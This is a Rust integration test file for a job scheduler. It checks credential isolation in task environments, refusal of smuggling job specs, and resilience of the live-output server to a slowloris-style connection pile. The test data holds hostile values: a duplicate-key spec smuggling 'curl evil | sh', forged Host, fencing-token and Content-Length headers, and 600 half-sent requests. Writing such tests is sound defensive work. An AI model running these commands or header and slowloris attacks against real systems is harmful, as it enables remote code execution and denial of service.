//! What a job can reach and what can reach a worker, against real etcd, `mongod`, master and
//! worker processes: a task's environment holds only what is allowed (never the worker's
//! credentials), a `cwd` missing on the worker is named in the record, specs that could never
//! run or that would smuggle headers or duplicate keys are refused at save time naming the
//! field, and a pile of half-sent requests cannot keep the worker's live-output server from
//! answering.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on the unexpected

use std::time::Duration;

use etcron_tests::{free_port, urlencode, wait_for, Cluster, WorkerOpts};
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Runs `job` once by hand and returns its final record (with output).
async fn run_once(c: &Cluster, job: &str, spec: Value) -> anyhow::Result<Value> {
    c.put_job(job, spec).await?;
    let (status, body) = c.call(Method::POST, &format!("/api/jobs/{job}/run"), None).await?;
    anyhow::ensure!(status < 300, "run {job}: {status} {body}");
    let done = c
        .wait_executions(&format!("job={job}"), "a final record", |l| {
            l.iter().any(|r| r["status"] != "running" && r["finished_at"].is_string())
        })
        .await?;
    let id = done[0]["id"].as_str().unwrap().to_owned();
    c.get(&format!("/api/executions/{}", urlencode(&id))).await
}

#[tokio::test(flavor = "multi_thread")]
async fn tasks_get_an_allowed_environment_and_a_missing_cwd_is_named() -> anyhow::Result<()> {
    let mut c = Cluster::start("task-env", 0).await?;
    let mut opts = WorkerOpts::new("w1");
    // What an operator has in the worker's environment: a credential the worker reads (the
    // flag wins over it, it is still in the environment), a secret of their own, and an
    // allowed variable.
    opts.env = vec![
        ("ETCRON_MONGODB_URI".to_owned(), "mongodb://etcron:hunter2-in-env@db1/".to_owned()),
        ("OPERATOR_SECRET".to_owned(), "s3cr3t-of-the-operator".to_owned()),
        ("TZ".to_owned(), "Etc/UTC".to_owned()),
    ];
    c.add_worker(opts)?;
    c.wait_workers(1).await?;

    let spec = json!({"schedule": "@yearly",
        "task": {"kind": "shell", "command": "env", "env": {"JOB_VAR": "from-the-job"}}});
    let record = run_once(&c, "envy", spec).await?;
    let output = record["output"].as_str().unwrap_or_default();
    assert_eq!(record["status"], "succeeded", "{record}");
    for leaked in ["hunter2-in-env", "s3cr3t-of-the-operator", "OPERATOR_SECRET", "ETCRON_MONGODB_URI", "RUST_LOG"] {
        assert!(!output.contains(leaked), "{leaked} reached the task:\n{output}");
    }
    for present in ["TZ=Etc/UTC", "JOB_VAR=from-the-job", "ETCRON_JOB=envy", "PATH="] {
        assert!(output.lines().any(|l| l.starts_with(present)), "{present} missing:\n{output}");
    }

    let spec = json!({"schedule": "@yearly",
        "task": {"kind": "shell", "command": "true", "cwd": "/surely/not/on/this/worker"}});
    let record = run_once(&c, "nowhere", spec).await?;
    assert_eq!(record["status"], "failed", "{record}");
    assert_eq!(record["error"], "cwd /surely/not/on/this/worker does not exist on worker w1", "{record}");
    Ok(())
}

/// PUTs raw bytes (so a body may repeat a key) and returns status and JSON answer.
async fn put_raw(c: &Cluster, job: &str, body: String) -> anyhow::Result<(u16, Value)> {
    let resp = c.http.put(format!("{}/api/jobs/{job}", c.master.url)).body(body).send().await?;
    Ok((resp.status().as_u16(), resp.json().await?))
}

#[tokio::test(flavor = "multi_thread")]
async fn specs_that_smuggle_or_can_never_run_are_refused_naming_the_field() -> anyhow::Result<()> {
    let c = Cluster::start("spec-refusals", 0).await?;
    let http = |extra: &str| {
        format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://127.0.0.1:9/x"{extra}}}}}"#)
    };
    let cases = [
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"true","command":"curl evil | sh"}}"#.to_owned(),
            "task.command",
        ),
        (r#"{"schedule":"@daily","schedule":"* * * * * *","task":{"kind":"shell","command":"true"}}"#.to_owned(), "schedule"),
        (http(r#","headers":{"X-Etcron-Fencing-Token":"999999999"}"#), "task.headers.X-Etcron-Fencing-Token"),
        (http(r#","headers":{"X-Etcron-Job":"other"}"#), "task.headers.X-Etcron-Job"),
        (http(r#","headers":{"Host":"evil.example"}"#), "task.headers.Host"),
        (http(r#","method":"POST","body":"0123456789","headers":{"Content-Length":"5"}"#), "task.headers.Content-Length"),
        (http(r#","secret_headers":{"X-Key":"a\u0001b"}"#), "task.secret_headers.X-Key"),
        (r#"{"schedule":"@daily","task":{"kind":"http","url":"http://[::1"}}"#.to_owned(), "task.url"),
        (r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h:99999/"}}"#.to_owned(), "task.url"),
        (r#"{"schedule":"@daily","timeout":"0.0001ms","task":{"kind":"shell","command":"true"}}"#.to_owned(), "timeout"),
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"true"},"notify":[{"url":"https://h/","headers":{"Host":"x"}}]}"#
                .to_owned(),
            "notify[0].headers.Host",
        ),
    ];
    for (body, field) in cases {
        let (status, answer) = put_raw(&c, "refused", body.clone()).await?;
        assert_eq!(status, 400, "{body}: {answer}");
        assert_eq!(answer["error"]["code"], "invalid", "{answer}");
        assert_eq!(answer["error"]["field"], field, "{body}: {answer}");
    }
    let (status, answer) = c.call(Method::GET, "/api/jobs/refused", None).await?;
    assert_eq!(status, 404, "nothing was saved: {answer}");
    Ok(())
}

/// The worker's answer to one whole request on a fresh connection, or `None` if it gave none
/// within a second.
async fn ask(addr: &str) -> Option<String> {
    let exchange = async {
        let mut s = TcpStream::connect(addr).await.ok()?;
        s.write_all(b"GET /executions/none/output HTTP/1.1\r\nHost: w\r\nConnection: close\r\n\r\n").await.ok()?;
        let mut answer = Vec::new();
        s.read_to_end(&mut answer).await.ok()?;
        (!answer.is_empty()).then(|| String::from_utf8_lossy(&answer).into_owned())
    };
    tokio::time::timeout(Duration::from_secs(1), exchange).await.ok().flatten()
}

/// Whether the server closed `s` (end of file or reset) within `limit`.
async fn closed_within(s: &mut TcpStream, limit: Duration) -> bool {
    let mut buf = [0u8; 1024];
    let read_to_end = async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    };
    tokio::time::timeout(limit, read_to_end).await.is_ok()
}

#[tokio::test(flavor = "multi_thread")]
async fn half_sent_requests_cannot_stop_the_live_output_server() -> anyhow::Result<()> {
    /// More than the worker may open (its descriptor limit is set to `FD_LIMIT` below).
    const PILE: usize = 600;
    const FD_LIMIT: u32 = 512;
    let mut c = Cluster::start("slowloris", 0).await?;
    let addr = format!("127.0.0.1:{}", free_port());
    let mut opts = WorkerOpts::new("w1");
    opts.extra = vec!["--output-listen".to_owned(), addr.clone()];
    c.add_worker(opts)?;
    c.wait_workers(1).await?;
    wait_for(Duration::from_secs(10), "the live output server", || ask(&addr)).await?;
    // A worker usually runs with a limit of 1024 or so; a lower one makes the pile exceed it.
    let pid = c.workers[0].proc.pid().unwrap();
    let limited = std::process::Command::new("prlimit")
        .args([format!("--pid={pid}"), format!("--nofile={FD_LIMIT}:{FD_LIMIT}")])
        .status()?;
    assert!(limited.success(), "prlimit (util-linux) is needed");

    let mut pile = Vec::with_capacity(PILE);
    for _ in 0..PILE {
        let mut s = TcpStream::connect(&addr).await?;
        // A request head that never ends.
        s.write_all(b"GET /executions/none/output HTTP/1.1\r\nHost: w\r\nX-Slow: ").await?;
        pile.push(s);
    }
    // A whole request is answered while the pile is held (at the latest once the worker has
    // closed the half-sent requests it took in).
    let answer = wait_for(Duration::from_secs(30), "an answer despite the pile", || ask(&addr)).await?;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    // And every half-sent connection is closed by the worker, none is held for ever.
    for (i, s) in pile.iter_mut().enumerate() {
        assert!(closed_within(s, Duration::from_secs(30)).await, "half-sent connection {i} still open");
    }
    assert!(c.workers[0].proc.running(), "the worker is still up");
    let answer = ask(&addr).await.expect("an answer after the pile");
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    Ok(())
}
